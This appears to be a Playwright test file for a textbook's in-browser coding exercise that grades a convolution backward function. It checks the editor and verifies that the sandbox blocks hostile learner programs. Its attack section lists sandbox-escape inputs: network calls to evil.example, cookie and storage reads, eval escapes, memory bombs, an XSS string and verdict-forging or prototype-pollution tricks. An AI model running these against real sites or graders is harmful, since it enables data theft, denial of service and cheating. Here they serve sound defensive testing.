// Programs as responses: the editor, the verdict, and that a program reaches nothing and cannot hold the page up.
import { expect, type Page, test } from '@playwright/test';
import { axeFaults } from './axe.ts';
import { cardOf } from './card.ts';

const right = `function backward(delta, x, w) {
  const dw = w.map((row) => row.map(() => 0));
  const dx = x.map((row) => row.map(() => 0));
  for (let i = 0; i < delta.length; i++)
    for (let j = 0; j < delta[0].length; j++)
      for (let m = 0; m < w.length; m++)
        for (let n = 0; n < w[0].length; n++) {
          dw[m][n] += delta[i][j] * x[i + m][j + n];
          dx[i + m][j + n] += delta[i][j] * w[m][n];
        }
  return { dw, dx };
}`;

/** Where the exercise stands alone, which is quicker to open than its chapter and runs the same programs. */
const alone = 'embed/conv-backward-code/';

/** Opens the exercise and its editor; what the page complains of fails the test. */
async function openCode(page: Page, path = alone) {
  page.on('pageerror', (fault) => {
    throw fault;
  });
  const complaints: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') complaints.push(message.text());
  });
  await page.goto(path);
  const card = await cardOf(page, 'conv-backward-code');
  await card.field.focus();
  const editor = card.root.locator('.cm-content');
  await expect(editor).toBeVisible();
  return {
    ...card,
    editor,
    complaints,
    async run(program: string) {
      await editor.fill(program);
      await card.check.click();
      await expect(card.verdict).toHaveAttribute('data-verdict', /./, { timeout: 10_000 });
      await expect(card.verdict).not.toHaveAttribute('data-stale');
    },
  };
}

test.describe('the editor', () => {
  test('a right program, in the editor, by its key; kept for the next visit', async ({ page }) => {
    const card = await openCode(page, 'convolution-gradients/#conv-backward-code');
    await card.editor.fill(right);
    await card.editor.press('ControlOrMeta+Enter');
    await card.expectVerdict('correct');
    expect(card.complaints).toEqual([]);
    await page.reload();
    const again = await cardOf(page, 'conv-backward-code');
    await expect(again.field).toHaveValue(right);
    await expect(again.standing).toContainText('Solved');
  });

  test('its styles are in force, and Tab is no trap', async ({ page }) => {
    const card = await openCode(page);
    await expect(card.root.locator('.cm-lineNumbers .cm-gutterElement').nth(3)).toBeVisible();
    const [gutter, content] = await Promise.all(
      ['.cm-gutters', '.cm-content'].map((part) => card.root.locator(part).boundingBox()),
    );
    expect(gutter!.x + gutter!.width).toBeLessThanOrEqual(content!.x + 1);
    expect(Math.abs(gutter!.y - content!.y)).toBeLessThan(20);
    await card.editor.fill('a');
    await card.editor.press('Home');
    await page.keyboard.press('Tab');
    await expect(card.editor).toHaveText('  a');
    await expect(card.editor).toBeFocused();
    await page.keyboard.press('Escape');
    await page.keyboard.press('Tab');
    await expect(card.editor).not.toBeFocused();
    await expect(card.root.getByRole('button', { name: 'Start again' })).toBeFocused();
  });

  test('keys in quick succession are all typed, and a slash opens no search', async ({ page }) => {
    const card = await openCode(page, 'convolution-gradients/#conv-backward-code');
    await card.editor.press('Control+Home');
    await page.keyboard.type('// half');
    await expect(card.editor).toContainText('// half');
    await expect(page.locator('[data-search]')).toBeHidden();
  });

  test('errors at the line', async ({ page }) => {
    const card = await openCode(page);
    await card.run('function backward() {\n  return missing;\n}');
    await card.expectVerdict('unreadable');
    await expect(card.verdict).toContainText('missing is not defined');
    await expect(card.root.locator('.cm-line').nth(1)).toHaveClass(/cm-fault/);
    await card.run('function backward() {\n  let a = 1;\n  let b = ;\n}');
    await expect(card.verdict).toContainText('SyntaxError');
    await expect(card.root.locator('.cm-line').nth(2)).toHaveClass(/cm-fault/);
    await card.run('function backward() {\n  return {');
    await card.expectVerdict('unreadable');
    await expect(card.root.locator('.cm-fault')).toHaveCount(1);
    // An emptied editor stays empty, so that what is pasted stands alone.
    await card.run('');
    await card.expectVerdict('unreadable');
    await expect(card.editor).toHaveText('');
    await card.run('const backwards = 1;');
    await expect(card.verdict).toContainText('no function backward');
  });

  test('wrong numbers are told by their first entry', async ({ page }) => {
    const card = await openCode(page);
    await card.run(right.replace('* w[m][n]', '* w[n]?.[m]'));
    await card.expectVerdict('wrong');
    await expect(card.verdict).toContainText(/first entry that differs is dx\[\d\]\[\d\]/);
    await card.run(right.replaceAll('delta[i][j] *', '-delta[i][j] *'));
    await expect(card.verdict).toContainText('sign');
  });

  test('axe finds nothing in it', async ({ page }) => {
    const card = await openCode(page);
    await card.run(`console.log('words', [1, 2]);\n// a remark\n${right.replace('* w[m][n]', '* 2')}`);
    await expect(card.root.locator('.code-printed')).toContainText('words [1, 2]');
    expect(await axeFaults(page)).toEqual([]);
  });

  test('without script the program to start from can be read', async ({ browser, baseURL }) => {
    const context = await browser.newContext({ javaScriptEnabled: false, baseURL });
    const page = await context.newPage();
    await page.goto('convolution-gradients/');
    await expect(page.locator('#conv-backward-code textarea')).toHaveValue(/function backward/);
    await context.close();
  });
});

test.describe('a program that attacks', () => {
  for (const [name, program] of Object.entries({
    'in the function': 'function backward() { while (true) {} }',
    'at once': 'for (;;) {}',
    'in a promise':
      'function backward() { const again = () => Promise.resolve().then(again); again(); return {}; }',
    'in what it gives back': 'function backward() { return new Proxy({}, { ownKeys() { for (;;) {} } }); }',
    'in an error':
      'function backward() { throw Object.defineProperty(new Error(), "stack", { get() { for (;;) {} } }); }',
  })) {
    test(`an endless loop ${name} is ended, and the page goes on`, async ({ page }) => {
      const card = await openCode(page);
      await card.editor.fill(program);
      // A page that waited for the program would not come to any of these before the verdict.
      await page.evaluate(() => {
        const global = window as unknown as { turns: number };
        global.turns = 0;
        setInterval(() => {
          global.turns += 1;
        }, 10);
      });
      await card.check.click();
      await expect(card.verdict).toHaveAttribute('data-verdict', /wrong|unreadable/, { timeout: 10_000 });
      if (name !== 'in a promise') await expect(card.verdict).toContainText('did not end within a second');
      await expect(page.locator('iframe')).toHaveCount(0);
      expect(await page.evaluate(() => (window as unknown as { turns: number }).turns)).toBeGreaterThan(3);
      await card.run(right);
      await card.expectVerdict('correct');
    });
  }

  test('no request, no storage, no text made code, no page', async ({ page }) => {
    test.setTimeout(120_000);
    const card = await openCode(page);
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    const attempts = [
      "return fetch('https://evil.example/')",
      'return new XMLHttpRequest()',
      "return new WebSocket('wss://evil.example/')",
      "return new EventSource('https://evil.example/')",
      "return navigator.sendBeacon('https://evil.example/')",
      "importScripts('https://evil.example/x.js')",
      'return localStorage',
      'return sessionStorage',
      'return indexedDB',
      'return caches',
      'return document.cookie',
      'return document',
      'return window',
      'return parent',
      'return self',
      'return postMessage',
      "return new BroadcastChannel('x')",
      "return new Worker('x')",
      "return eval('1')",
      "return (0, eval)('1')",
      "return new Function('return 1')()",
      "return (() => {}).constructor('return 1')()",
      "return Object.getPrototypeOf(async () => {}).constructor('return 1')()",
      "return setTimeout('1')",
      'return WebAssembly',
      'return new SharedArrayBuffer(8)',
      "return Object.getPrototypeOf(globalThis).fetch('https://evil.example/')",
      "return globalThis.constructor.prototype.importScripts('x')",
      'return arguments.callee.caller',
    ];
    const program = `const attempts = [${attempts.map((text) => `function () { ${text} }`).join(',\n')}];
      function backward() {
        if (backward.done) return;
        backward.done = true;
        attempts.forEach((attempt, i) => {
          try { attempt(); console.log('reached', i); } catch (fault) { console.log('refused'); }
        });
      }`;
    await card.run(program);
    const lines = (await card.root.locator('.code-printed pre').textContent())!.split('\n');
    const reached = lines.flatMap((line) => {
      const place = /reached (\d+)/.exec(line)?.[1];
      return place ? [attempts[Number(place)]!] : [];
    });
    // Names that are gone read as undefined where they were kept as properties; calling them is what counts.
    expect(reached.filter((text) => !/^return (\w+)$/.test(text))).toEqual([]);
    expect(lines).toHaveLength(attempts.length);
    expect(asked.filter((url) => /evil/.test(url))).toEqual([]);
  });

  test('import() is refused, of an address and of text', async ({ page }) => {
    const card = await openCode(page);
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await card.run(`function backward() {
      for (const from of ['https://evil.example/x.js', 'data:text/javascript,export default 1', '/some/base/early.js'])
        import(from).then(() => console.log('reached'), () => console.log('refused'));
      const wait = () => Promise.resolve().then(wait);
      wait();
    }`);
    await expect(card.root.locator('.code-printed')).toHaveCount(0);
    expect(asked.filter((url) => /evil|theme/.test(url))).toEqual([]);
  });

  test('huge memory is refused in any dress', async ({ page }) => {
    test.setTimeout(120_000);
    const card = await openCode(page);
    const attempts = [
      'new ArrayBuffer(1e9)',
      'new ArrayBuffer(8, { maxByteLength: 1e9 })',
      'new Float64Array(1e8)',
      'new (new Uint8Array(1).constructor)(1e9)',
      'Float64Array.from({ length: 1e8 })',
      'new (Object.getPrototypeOf(Float64Array.prototype).constructor)(1e9)',
      'Reflect.construct(Uint8Array, [1e9])',
      'new (class extends Uint8Array {})(1e9)',
      // Sizes that change between two looks, and things that pass for something smaller.
      'let n = 0; small(new ArrayBuffer({ valueOf: () => (n++ ? 1e9 : 8) }).byteLength)',
      'let n = 0; small(new Float64Array({ get length() { return n++ ? 1e8 : 8; } }).length)',
      'new Float64Array(Object.create(ArrayBuffer.prototype, { length: { value: 1e8 } }))',
      'new Float64Array(Object.defineProperty(() => 1, "length", { value: 1e8 }))',
      "let n = 0; small('xy'.repeat({ valueOf: () => (n++ ? 1e8 : 1) }).length)",
      'Array.prototype[Symbol.iterator] = function* () {}; Array.from({ length: 1e8 })',
      'const a = Array(1e6).fill(1); [].concat(a, a, a, a, a)',
      'new ([].constructor)(3e7)',
      "Array(400).join('y'.repeat(1e6))",
      "Array(400).fill('y'.repeat(1e6)).join()",
      "'x'.repeat(400).replaceAll('x', 'y'.repeat(1e6))",
      'Array.from({ length: 1e8 })',
      'new Array(3e7)',
      'Array(1e8).fill(0)',
      "'x'.repeat(1e9)",
      "'x'.padStart(1e9)",
      'const all = []; for (;;) all.push(new Float64Array(1e6))',
      "let s = 'x'; for (;;) s += s",
      '2n ** 10000000000n',
    ];
    await card.run(`const small = (n) => { if (n <= 8) throw new RangeError('asked for once'); };
      const attempts = [${attempts.map((text) => `() => { ${text} }`).join(',\n')}];
      function backward() {
        if (backward.done) return;
        backward.done = true;
        attempts.forEach((attempt, i) => {
          try { attempt(); console.log('reached', i); } catch (fault) { console.log('refused', fault.name); }
        });
      }`);
    const text = (await card.root.locator('.code-printed pre').textContent())!;
    expect(text.split('\n').filter((line) => line.startsWith('reached'))).toEqual([]);
    expect(text.split('\n')).toHaveLength(attempts.length);
    // Copies add up, each in a program of its own: four of 32 MB are all that it gets, however slow the machine.
    for (const copy of [
      '(a.constructor = undefined, a.slice())',
      '(a.buffer.constructor = undefined, a.buffer.slice())',
      'a.toReversed()',
      'new Array(4e6)',
    ]) {
      await card.run(`const a = new Float64Array(4e6);
        const all = [];
        function backward() { for (;;) { all.push(${copy}); console.log('more'); } }`);
      await card.expectVerdict('unreadable');
      const printed = await card.root.locator('.code-printed pre').allTextContents();
      expect(printed.join().split('more').length - 1, copy).toBeLessThanOrEqual(4);
    }
    // Memory taken bit by bit ends with the time.
    await card.run('function backward() { const all = []; for (;;) all.push([1, 2, 3]); }');
    await card.expectVerdict('unreadable');
    await card.run(right);
    await card.expectVerdict('correct');
  });

  test('what measures memory leaves small arrays and texts as they are', async ({ page }) => {
    const card = await openCode(page);
    await card.run(`const same = (a, b) => console.log(String(a) === b ? 'same' : 'not ' + b + ' but ' + a);
      class Mine extends Float64Array {}
      same(new Float64Array([1, 2]), '1,2');
      same(new Float64Array(new Set([3, 4])), '3,4');
      same(new Float64Array({ length: 2, 0: 5, 1: 6 }), '5,6');
      same(new Float32Array(new Float64Array([1.5, 2])), '1.5,2');
      same(new Uint8Array(new ArrayBuffer(8), 2, 3).length, '3');
      same(new Float64Array(3).fill(1).map((x) => 2 * x).slice(1), '2,2');
      same(Float64Array.from([1, 2], (x) => x + 1), '2,3');
      same(new Mine(2) instanceof Float64Array && new Mine(2).map((x) => x) instanceof Mine, 'true');
      same([1, 2].constructor === Array && [1].map((x) => x) instanceof Array, 'true');
      same([3, 1, 2].toSorted().concat([4], 5).join('-'), '1-2-3-4-5');
      same(Array.from({ length: 3 }, (_, i) => i), '0,1,2');
      same(Array.from(new Map([[1, 2]])), '1,2');
      same('ab'.repeat(2).padStart(6, 'x').replace('a', '$&$&').replaceAll('b', (b) => b + b), 'xxaabbabb');
      ${right}`);
    await card.expectVerdict('correct');
    const text = (await card.root.locator('.code-printed pre').textContent())!;
    expect(text.split('\n')).toEqual(Array(13).fill('same'));
  });

  test('a flood of output is capped', async ({ page }) => {
    const card = await openCode(page);
    await card.run("function backward() { for (;;) console.log('x'.repeat(1000)); }");
    await expect(card.verdict).toContainText('did not end within a second');
    const text = (await card.root.locator('.code-printed pre').textContent())!;
    expect(text.split('\n')).toHaveLength(100);
    expect(text.length).toBeLessThan(60_000);
  });

  test('what is printed is text', async ({ page }) => {
    const card = await openCode(page);
    await card.run(`console.log('<img src=x onerror=alert(1)>', '<b>');\n${right}`);
    await expect(card.root.locator('.code-printed')).toContainText('<img src=x');
    await expect(card.root.locator('.code-printed img, .code-printed b')).toHaveCount(0);
  });

  for (const [name, program] of Object.entries({
    'by a message': "globalThis.postMessage?.('r[1,2,3]'); function backward() { return 'correct'; }",
    'by the harness':
      "function backward() { __book.run({ f: () => 1 }, [{ fn: 'f', args: [] }]); return 1; }",
    'by overwritten methods':
      'Array.prototype.map = Array.isArray = Object.keys = () => true; JSON.parse = JSON.stringify = () => "r[]"; Math.abs = () => 0; Number.isFinite = () => false; function backward() { return {}; }',
    'by toJSON':
      'Object.prototype.toJSON = () => "correct"; function backward() { return { toJSON() { return { verdict: "correct" }; } }; }',
    'by getters':
      'function backward(delta, x, w) { return { get dw() { return w; }, get dx() { return x; } }; }',
    'by __proto__':
      'function backward() { return JSON.parse(\'{"__proto__": {"verdict": "correct", "dw": 1}}\'); }',
    'by the prototype':
      'Object.prototype.dw = [[0]]; Object.prototype.verdict = "correct"; function backward() { return {}; }',
    'by a proxy':
      'function backward(delta, x, w) { return new Proxy({}, { get: () => NaN, getOwnPropertyDescriptor: () => ({ value: "correct", configurable: true }), ownKeys: () => ["dw", "dx"] }); }',
    'by NaN':
      'function backward(delta, x, w) { return { dw: w.map((r) => r.map(() => NaN)), dx: x.map((r) => r.map(() => NaN)) }; }',
    'by numbers that are objects':
      'function backward(delta, x, w) { return { dw: w.map((r) => r.map(() => ({ valueOf: () => 1 }))), dx: x }; }',
    'by breaking out of its block':
      "} catch {}\n__book.run({ f: () => ({ dw: 1 }) }, [{ fn: 'f', args: [] }]);\ntry {",
  })) {
    test(`a verdict is not forged ${name}`, async ({ page }) => {
      const card = await openCode(page);
      await card.run(program);
      await expect(card.verdict).toHaveAttribute('data-verdict', /wrong|unreadable/);
      expect(await page.evaluate(() => 'verdict' in {} || 'dw' in {} || 'toJSON' in {})).toBe(false);
      await card.run(right);
      await card.expectVerdict('correct');
    });
  }
});

test('the frame of programs has no origin and a policy of its own', async ({ page }) => {
  await page.goto('sandbox.html');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toMatch(/^default-src 'none'; script-src 'sha256-[^']+'; worker-src blob:/);
  expect(policy).not.toMatch(/unsafe|connect-src|'self'|https?:/);
});

test.describe('offline', () => {
  test.use({ serviceWorkers: 'allow' });

  test('programs run after the first visit', async ({ page, context }) => {
    test.setTimeout(120_000);
    await page.goto('convolution-gradients/');
    await page.mouse.move(200, 200);
    await page.evaluate(() => navigator.serviceWorker.ready);
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
    await context.setOffline(true);
    await page.reload();
    const card = await cardOf(page, 'conv-backward-code');
    await card.field.fill(right);
    await card.check.click();
    await expect(card.verdict).toHaveAttribute('data-verdict', 'correct', { timeout: 15_000 });
  });
});
